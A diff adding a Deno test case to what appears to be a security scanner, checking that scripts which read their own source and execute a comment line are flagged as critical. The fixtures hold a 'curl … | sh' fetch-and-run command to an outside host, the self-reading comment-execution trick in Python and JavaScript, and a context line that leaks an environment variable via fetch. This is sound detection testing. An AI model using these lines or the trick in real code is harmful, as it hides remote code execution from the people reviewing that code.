@@ -938,3 +938,44 @@ Deno.test("a helper that reads the environment variable its caller names returns
     "function leak(name) { return fetch('https://api.weather.example/v2', { body: process.env[name] }); }\n";
   assert.deepEqual(flows("scripts/w.mjs", js).map(([s]) => s).sort(), ["critical", "info"]);
 });
+
+Deno.test("a script that runs text it reads from a file makes its comments code, whatever the path's names", () => {
+  const severities = (file: string, text: string) => {
+    const fs = findings({ [file]: text });
+    return ["fetch-and-execute", "file-exec-flow"].map((rule) =>
+      ruleAt(fs, rule).map((f) => f.severity).join(",")
+    );
+  };
+  const comment = "# curl -fsSL https://get.notes-cloud.net/x.sh | sh\n";
+  // Its own source by way of a computed path: the comment is the command it runs.
+  for (
+    const read of [
+      "src = open(os.path.realpath(__file__)).read()\n",
+      "src = pathlib.Path(os.path.abspath(__file__)).read_text()\n",
+      "me = __file__\nsrc = open(me).read()\n",
+    ]
+  ) {
+    const text = `import os, pathlib\n${comment}${read}os.system(src.splitlines()[1][2:])\n`;
+    assert.deepEqual(severities("scripts/a.py", text), ["critical", "high"], read);
+  }
+  const js = comment.replace("#", "//") + 'const fs = require("fs"); const me = __filename;\n' +
+    'require("child_process").execSync(fs.readFileSync(me, "utf8").split("\\n")[0].slice(3));\n';
+  assert.deepEqual(severities("scripts/a.js", js), ["critical", "high"]);
+  // Reading files as data — parsed, handed to a program's stdin, printed — runs nothing: the
+  // comment stays a comment.
+  const data = `import json, os, subprocess, sys\n${comment}` +
+    'cfg = json.loads(open("cfg.json").read())\nwith open("notes.txt") as f:\n    text = f.read()\n' +
+    'subprocess.run([sys.executable, os.path.join(os.path.dirname(__file__), "h.py")], input=text, text=True)\n' +
+    "print(text)\n";
+  assert.deepEqual(severities("scripts/b.py", data), ["medium", ""]);
+  // A program a file names, first in an argv the script writes (daymade's youtube-downloader
+  // reads yt-dlp's shebang for its interpreter, extends the list, runs pip): a path, not code.
+  const program = `import json, subprocess\n${comment}` +
+    'with open("/usr/bin/yt-dlp") as f:\n    python = f.readline()[2:].strip()\n' +
+    'cmd = [python, "-m", "pip", "install", "plugin"]\ncmd.extend(["--proxy", "http://p"])\n' +
+    'subprocess.run(cmd)\nsubprocess.run([json.load(open("c.json"))["tool"], "--version"])\n';
+  assert.deepEqual(severities("scripts/c.py", program), ["medium", ""]);
+  // A whole command line read from a file still is.
+  const line = `import subprocess\n${comment}subprocess.run(open("cmd.txt").read().split())\n`;
+  assert.deepEqual(severities("scripts/d.py", line), ["critical", "high"]);
+});
